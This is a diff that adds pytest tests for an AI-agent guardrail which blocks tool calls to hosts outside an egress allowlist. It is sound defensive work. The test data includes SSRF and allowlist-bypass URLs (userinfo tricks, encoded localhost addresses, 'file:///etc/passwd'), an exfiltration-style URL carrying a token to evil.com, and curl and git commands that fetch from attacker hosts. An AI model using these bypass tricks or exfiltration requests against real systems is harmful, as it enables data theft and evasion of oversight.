@@ -1,0 +1,101 @@
+"""Egress allowlist: exact hosts, dot-boundary suffixes, session grants, and the usual URL tricks."""
+
+from __future__ import annotations
+
+import json
+from typing import Any, cast
+
+import pytest
+
+from config.policy import ToolsPolicy
+from guardrails.tools import Assessment, ToolAssessor
+from proxy.events import ToolCall
+
+ALLOW = ["api.github.com", ".pypi.org", ".github.com"]
+
+def _obs(a: Assessment, key: str) -> list[dict[str, Any]]:
+    """A list-valued observation, typed for the assertions."""
+    return cast(list[dict[str, Any]], a.observations[key])
+
+
+
+def _fetch(url: str, allow: list[str] | None = None, grants: frozenset[str] = frozenset(),
+           tool: str = "WebFetch", **policy: object) -> Assessment:
+    tools = ToolsPolicy.model_validate({"egress_allow": ALLOW if allow is None else allow, **policy})
+    args = {"url": url} if tool == "WebFetch" else {"prompt": url}
+    return ToolAssessor(tools).assess(ToolCall("c", tool, json.dumps(args)), [], grants)
+
+
+@pytest.mark.parametrize("url", ["https://api.github.com/repos/x", "https://files.pypi.org/simple/",
+                                 "https://API.GitHub.com./x", "raw.github.com/x"])
+def test_allowed_hosts_pass(url: str) -> None:
+    assert _fetch(url).decision == "allow"
+
+
+@pytest.mark.parametrize("url", [
+    "http://api.github.com@evil.com/",     # userinfo: the host is evil.com
+    "https://token@api.github.com/",       # credentials in the URL
+    "http://127.0.0.1/",                   # IP literals
+    "http://2130706433/",                  # 127.0.0.1 as a decimal integer
+    "http://0x7f000001/",                  # ... as hex
+    "http://127.1/",                       # ... abbreviated
+    "http://[::1]/",                       # IPv6
+    "https://evilgithub.com/",             # no dot boundary
+    "https://pypi.org.evil.com/",          # suffix of the wrong side
+    "file:///etc/passwd",                  # not a network scheme
+    "https://pypi.org/",                   # ".pypi.org" does not include the bare domain
+])
+def test_egress_tricks_are_blocked(url: str) -> None:
+    a = _fetch(url)
+    assert (a.decision, a.rule, a.reason_code) == ("block", "egress_allowlist", "egress_not_allowed"), url
+
+
+def test_the_recorded_facts_are_host_level_only() -> None:
+    a = _fetch("https://evil.com/collect?token=sk-SECRET")
+    assert "sk-SECRET" not in json.dumps(a.observations) and "sk-SECRET" not in a.rationale
+    assert _obs(a, "urls")[0]["host"] == "evil.com"
+
+
+def test_ip_literals_pass_only_when_listed_literally() -> None:
+    assert _fetch("http://127.0.0.1:8080/x", allow=["127.0.0.1"]).decision == "allow"
+    assert _fetch("http://10.0.0.1/", allow=[".0.0.1"]).decision == "block"
+
+
+def test_an_empty_allowlist_allows_nothing() -> None:
+    assert _fetch("https://example.com/", allow=[]).reason_code == "egress_not_allowed"
+
+
+def test_session_grants_widen_the_allowlist() -> None:
+    assert _fetch("https://docs.python.org/3/", grants=frozenset({"docs.python.org"})).decision == "allow"
+    assert _fetch("https://x.readthedocs.io/", grants=frozenset({".readthedocs.io"})).decision == "allow"
+    a = _fetch("https://docs.python.org/3/", grants=frozenset({"docs.python.org"}))
+    assert a.observations["grants"] == ["docs.python.org"]
+
+
+def test_egress_can_be_switched_off() -> None:
+    assert _fetch("https://example.com/", egress_enabled=False).decision == "allow"
+
+
+def test_gemini_web_fetch_checks_every_url_in_its_prompt() -> None:
+    ok = _fetch("Summarize https://api.github.com/a and https://files.pypi.org/b", tool="web_fetch")
+    assert ok.decision == "allow"
+    bad = _fetch("Compare https://api.github.com/a with https://evil.example/b please", tool="web_fetch")
+    assert bad.reason_code == "egress_not_allowed" and "evil.example" in bad.rationale
+    assert _fetch("summarize", tool="web_fetch").decision == "allow"
+
+
+def test_web_search_has_no_host_to_check() -> None:
+    tools = ToolsPolicy(egress_allow=[])
+    assert ToolAssessor(tools).assess(ToolCall("c", "google_web_search", '{"query": "x"}'), []).decision == "allow"
+
+
+def test_download_urls_in_shell_commands_are_checked() -> None:
+    tools = ToolsPolicy(egress_allow=ALLOW)
+
+    def run(cmd: str) -> Assessment:
+        return ToolAssessor(tools).assess(ToolCall("c", "Bash", json.dumps({"command": cmd})), [])
+
+    assert run("curl -sL https://evil.com/x -o x").reason_code == "egress_not_allowed"
+    assert run("git clone https://github.com.evil.io/r").reason_code == "egress_not_allowed"
+    assert run("curl -s https://api.github.com/repos/x").decision == "allow"
+    assert run('echo "see https://evil.com"').decision == "allow"
